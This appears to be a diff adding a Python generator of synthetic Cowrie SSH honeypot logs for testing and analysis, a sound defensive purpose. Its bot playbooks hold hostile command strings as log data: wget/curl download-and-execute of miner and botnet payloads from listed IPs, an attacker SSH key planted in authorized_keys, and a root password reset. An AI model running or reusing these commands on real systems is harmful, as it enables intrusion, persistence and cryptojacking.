@@ -0,0 +1,284 @@
+#!/usr/bin/env python3
+"""
+Synthetic Cowrie - Realistic cowrie.json streams at any scale
+Generates interleaved SSH sessions with the shape of real honeypot traffic:
+a heavy-tailed set of publicly routable attacker IPs (a few hosts produce
+most events, and a few /24 scanning farms hold many of the hosts), each
+with a behaviour (port scanner, credential brute-forcer, bot running a
+playbook after login, or an interactive human), Zipf-distributed credential
+dictionaries, bot command playbooks with payload downloads, and SSH client
+banners. Output is deterministic for a given seed.
+
+Usage:
+    python3 synthetic_cowrie.py --events 1000000 -o synthetic.json
+    python3 synthetic_cowrie.py --events 100000000 --days 180 -o synthetic.json.gz
+    python3 synthetic_cowrie.py --events 1000 | head
+"""
+
+import sys
+import json
+import gzip
+import time
+import heapq
+import random
+import hashlib
+import argparse
+import ipaddress
+import itertools
+from datetime import datetime, timezone
+
+SENSOR = "patriotpot"
+DST_IP = "10.0.1.15"
+
+# (value, relative weight); the head of each list carries most of the traffic
+USERNAMES = [
+    ("root", 400), ("admin", 120), ("user", 50), ("ubuntu", 40), ("test", 40), ("oracle", 20),
+    ("postgres", 20), ("pi", 18), ("ec2-user", 12), ("git", 12), ("ftpuser", 10), ("guest", 10),
+    ("support", 9), ("deploy", 8), ("mysql", 8), ("centos", 6), ("hadoop", 6), ("dev", 5),
+    ("nagios", 5), ("solana", 5), ("sol", 4), ("minecraft", 3), ("steam", 3), ("debian", 3),
+    ("jenkins", 3), ("tomcat", 3), ("elastic", 2), ("docker", 2), ("ansible", 2), ("vagrant", 2),
+]
+PASSWORDS = [
+    ("123456", 300), ("password", 90), ("admin", 80), ("root", 70), ("12345678", 45), ("123", 40),
+    ("1234", 35), ("12345", 35), ("qwerty", 25), ("P@ssw0rd", 20), ("test", 20), ("1q2w3e4r", 15),
+    ("admin123", 15), ("toor", 12), ("raspberry", 10), ("ubuntu", 10), ("changeme", 8),
+    ("passw0rd", 8), ("111111", 8), ("abc123", 6), ("Aa123456", 6), ("root123", 6), ("default", 5),
+    ("letmein", 4), ("welcome", 4), ("0", 3), ("", 3),
+]
+WORDS = ["admin", "server", "linux", "qwe", "pass", "root", "user", "test", "data", "cloud",
+         "summer", "dragon", "monkey", "master", "shadow", "secret", "oracle", "hello"]
+SSH_VERSIONS = [
+    ("SSH-2.0-Go", 300), ("SSH-2.0-libssh_0.9.6", 120), ("SSH-2.0-libssh2_1.10.0", 80),
+    ("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", 60), ("SSH-2.0-PUTTY", 25),
+    ("SSH-2.0-paramiko_3.4.0", 25), ("SSH-2.0-OpenSSH_7.4", 20), ("SSH-2.0-AsyncSSH_2.14.2", 10),
+    ("SSH-2.0-ZGrab ZGrab SSH Survey", 10), ("SSH-2.0-OpenSSH_9.6", 8),
+]
+HASSH = ["ec7378c1a92f5a8dde7e8b7a1ddf33d1", "f555226df1963d1d3c09daf865abdc9a",
+         "0a07365cc01fa9fc82608ba4019af499", "b12d2871a1189eff20364cf5333619ee"]
+PAYLOAD_HOSTS = ["45.61.136.12", "103.145.13.200", "185.224.128.43", "194.180.49.57", "87.121.112.9"]
+PAYLOADS = ["x86", "bins.sh", "sora.sh", "ohshit.sh", "kinsing", "xmrig", "dota3.tar.gz", "ssh.sh"]
+
+RECON = [
+    "uname -a", "cat /proc/cpuinfo | grep name | wc -l",
+    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'", "ls -lh $(which ls)",
+    "crontab -l", "w", "uname -m", "lscpu | grep Model",
+    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'", "cat /proc/cpuinfo | grep model | grep name | wc -l",
+    "which ls", "top", "nproc", "whoami",
+]
+SSH_KEY = ("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~")
+PERSIST = ["cd ~; chattr -ia .ssh; lockr -ia .ssh", SSH_KEY, "echo \"root:{password}\"|chpasswd|bash"]
+DOWNLOAD = "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/{name}; curl -O http://{host}/{name}; chmod 777 {name}; sh {name}; rm -rf {name}"
+HUMAN = ["ls", "ls -la", "pwd", "whoami", "id", "cat /etc/passwd", "cat /etc/issue", "ps aux", "netstat -tulpn",
+         "history", "cd /tmp", "ifconfig", "cat .bash_history", "uptime", "last", "exit"]
+
+# Attacker behaviours: (name, share of IPs)
+BEHAVIOURS = [("scanner", 0.30), ("bruteforce", 0.48), ("bot", 0.18), ("human", 0.04)]
+
+# Scanning farms: a few /24s hold a large share of the attacker pool
+HOT_PREFIXES = 12
+HOT_SHARE = 0.4
+
+
+def _cum(pairs):
+    return [v for v, _ in pairs], list(itertools.accumulate(w for _, w in pairs))
+
+
+def _global_ip(rng, prefix=None):
+    """Random publicly routable IPv4 address, inside prefix (first three octets) if given"""
+    while True:
+        head = prefix or f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}"
+        ip = f"{head}.{rng.randint(1, 254)}"
+        if ipaddress.ip_address(ip).is_global:
+            return ip
+
+
+class Generator:
+    """
+    Cowrie event dicts in timestamp order.
+
+    events: total events to produce
+    start: first session start (datetime, UTC)
+    days: time span the events are spread over
+    ips: attacker pool size (default: scales with events)
+    """
+
+    def __init__(self, events, seed=1, start=None, days=30, ips=None):
+        self.total = events
+        self.rng = random.Random(seed)
+        self.start = (start or datetime(2025, 9, 1, tzinfo=timezone.utc)).timestamp()
+        self.end = self.start + days * 86400
+        self.users = _cum(USERNAMES)
+        self.passwords = _cum(PASSWORDS)
+        self.versions = _cum(SSH_VERSIONS)
+        n_ips = ips or max(200, events // 60)
+        rng = self.rng
+        hot = [_global_ip(rng).rsplit(".", 1)[0] for _ in range(HOT_PREFIXES)]
+        self.ips = []
+        for _ in range(n_ips):
+            ip = _global_ip(rng, rng.choice(hot) if rng.random() < HOT_SHARE else None)
+            behaviour = rng.choices([b for b, _ in BEHAVIOURS], weights=[w for _, w in BEHAVIOURS])[0]
+            version = rng.choices(*self.versions) if behaviour != "human" else ["SSH-2.0-PUTTY"]
+            self.ips.append((ip, behaviour, version[0], rng.choice(HASSH)))
+        # Zipf-like activity per IP: the top few hosts send most of the sessions
+        self.ip_weights = list(itertools.accumulate(1.0 / (rank + 1) ** 1.1 for rank in range(n_ips)))
+        # Sessions average ~8 events; spread their starts over the span
+        self.session_gap = (self.end - self.start) / max(events / 8.0, 1)
+        self._prefix = (None, None)
+
+    def _timestamp(self, ts):
+        second = int(ts)
+        if self._prefix[0] != second:
+            self._prefix = (second, time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second)))
+        return f"{self._prefix[1]}.{int((ts - second) * 1e6):06d}Z"
+
+    def _password(self):
+        rng = self.rng
+        if rng.random() < 0.25:
+            # long tail of one-off dictionary passwords
+            return rng.choice(WORDS) + str(rng.randint(0, 9999)) + rng.choice(["", "!", "@", "#"])
+        return rng.choices(self.passwords[0], cum_weights=self.passwords[1])[0]
+
+    def _username(self):
+        return self.rng.choices(self.users[0], cum_weights=self.users[1])[0]
+
+    def session(self, start):
+        """(time, event) pairs for one session starting at start"""
+        rng = self.rng
+        ip, behaviour, version, hassh = rng.choices(self.ips, cum_weights=self.ip_weights)[0]
+        sid = "%012x" % rng.getrandbits(48)
+        base = {"src_ip": ip, "session": sid, "sensor": SENSOR}
+        src_port = rng.randint(1024, 65535)
+        t = start
+        events = [(t, dict(base, eventid="cowrie.session.connect", src_port=src_port, dst_ip=DST_IP, dst_port=22,
+                           protocol="ssh", message=f"New connection: {ip}:{src_port} ({DST_IP}:22) [session: {sid}]"))]
+
+        if behaviour == "scanner" and rng.random() < 0.6:
+            t += rng.uniform(0.05, 2.0)
+            events.append((t, dict(base, eventid="cowrie.session.closed", duration=round(t - start, 6),
+                                   message=f"Connection lost after {int(t - start)} seconds")))
+            return events
+
+        t += rng.uniform(0.05, 0.5)
+        events.append((t, dict(base, eventid="cowrie.client.version", version=version,
+                               message=f"Remote SSH version: {version}")))
+        t += rng.uniform(0.01, 0.2)
+        events.append((t, dict(base, eventid="cowrie.client.kex", hassh=hassh,
+                               message=f"SSH client hassh fingerprint: {hassh}")))
+
+        if behaviour == "scanner":
+            attempts, success_at = 1, None
+        elif behaviour == "bruteforce":
+            attempts = min(int(rng.paretovariate(1.3)), 40)
+            success_at = attempts - 1 if rng.random() < 0.15 else None
+        else:
+            attempts = rng.randint(1, 3)
+            success_at = attempts - 1
+        username = None
+        for attempt in range(attempts):
+            t += rng.uniform(0.2, 3.0) if behaviour != "human" else rng.uniform(2.0, 12.0)
+            username, password = self._username(), self._password()
+            ok = attempt == success_at
+            events.append((t, dict(base, eventid="cowrie.login.success" if ok else "cowrie.login.failed",
+                                   username=username, password=password,
+                                   message=f"login attempt [{username}/{password}] {'succeeded' if ok else 'failed'}")))
+
+        if success_at is not None:
+            if behaviour == "human":
+                commands = [rng.choice(HUMAN) for _ in range(rng.randint(2, 15))]
+                think = (1.5, 20.0)
+            elif behaviour == "bot" or rng.random() < 0.5:
+                commands = PERSIST[:rng.randint(0, 3)] + RECON[:rng.randint(3, len(RECON))]
+                if rng.random() < 0.45:
+                    commands.append(DOWNLOAD.format(host=rng.choice(PAYLOAD_HOSTS), name=rng.choice(PAYLOADS)))
+                think = (0.05, 0.6)
+            else:
+                commands, think = [], (0, 0)
+            for command in commands:
+                command = command.format(password=self._password()) if "{password}" in command else command
+                t += rng.uniform(*think)
+                events.append((t, dict(base, eventid="cowrie.command.input", input=command, message=f"CMD: {command}")))
+                if command.startswith("cd /tmp || "):
+                    url = command.split("wget ", 1)[1].split(";", 1)[0]
+                    shasum = hashlib.sha256(url.encode()).hexdigest()
+                    t += rng.uniform(0.5, 4.0)
+                    events.append((t, dict(base, eventid="cowrie.session.file_download", url=url,
+                                           outfile=f"var/lib/cowrie/downloads/{shasum}", shasum=shasum,
+                                           destfile=url.rsplit("/", 1)[-1],
+                                           message=f"Downloaded URL ({url}) with SHA-256 {shasum} to var/lib/cowrie/downloads/{shasum}")))
+
+        t += rng.uniform(0.1, 5.0)
+        events.append((t, dict(base, eventid="cowrie.session.closed", duration=round(t - start, 6),
+                               message=f"Connection lost after {int(t - start)} seconds")))
+        return events
+
+    def __iter__(self):
+        """Events with timestamps, interleaved across concurrent sessions"""
+        rng = self.rng
+        heap = []
+        seq = itertools.count()
+        next_start = self.start
+        emitted = 0
+        while emitted < self.total:
+            # Open every session that starts before the earliest pending event
+            while not heap or next_start <= heap[0][0]:
+                for t, event in self.session(next_start):
+                    heapq.heappush(heap, (t, next(seq), event))
+                next_start += rng.expovariate(1.0 / self.session_gap)
+            t, _, event = heapq.heappop(heap)
+            event["timestamp"] = self._timestamp(t)
+            yield event
+            emitted += 1
+
+
+def write(generator, out):
+    """Write events as JSON lines to a binary file object; returns bytes written"""
+    written = 0
+    dumps = json.dumps
+    buffer = []
+    for event in generator:
+        buffer.append(dumps(event))
+        if len(buffer) >= 10000:
+            data = ("\n".join(buffer) + "\n").encode("utf-8")
+            out.write(data)
+            written += len(data)
+            buffer = []
+    if buffer:
+        data = ("\n".join(buffer) + "\n").encode("utf-8")
+        out.write(data)
+        written += len(data)
+    return written
+
+
+def generate_file(path, events, seed=1, start=None, days=30, ips=None):
+    """Write a synthetic log (gzip if path ends in .gz); returns bytes written"""
+    generator = Generator(events, seed=seed, start=start, days=days, ips=ips)
+    with (gzip.open(path, "wb", compresslevel=6) if path.endswith(".gz") else open(path, "wb")) as f:
+        return write(generator, f)
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Generate realistic synthetic Cowrie JSON logs')
+    parser.add_argument('--events', type=int, default=1000000, help='Number of events (default: 1,000,000)')
+    parser.add_argument('-o', '--output', help='Output file, .gz to compress (default: stdout)')
+    parser.add_argument('--seed', type=int, default=1, help='Random seed (default: 1)')
+    parser.add_argument('--start', default='2025-09-01', help='First event date, ISO (default: 2025-09-01)')
+    parser.add_argument('--days', type=float, default=30, help='Days the events span (default: 30)')
+    parser.add_argument('--ips', type=int, help='Attacker IP pool size (default: events / 60)')
+    args = parser.parse_args()
+
+    start = datetime.fromisoformat(args.start).replace(tzinfo=timezone.utc)
+    started = time.time()
+    if args.output:
+        size = generate_file(args.output, args.events, args.seed, start, args.days, args.ips)
+        elapsed = time.time() - started
+        print(f"{args.events:,} events, {size:,} bytes -> {args.output} in {elapsed:.1f}s "
+              f"({args.events / max(elapsed, 1e-9):,.0f} events/s)", file=sys.stderr)
+    else:
+        try:
+            write(Generator(args.events, args.seed, start, args.days, args.ips), sys.stdout.buffer)
+        except BrokenPipeError:
+            sys.stderr.close()
+
+
+if __name__ == "__main__":
+    main()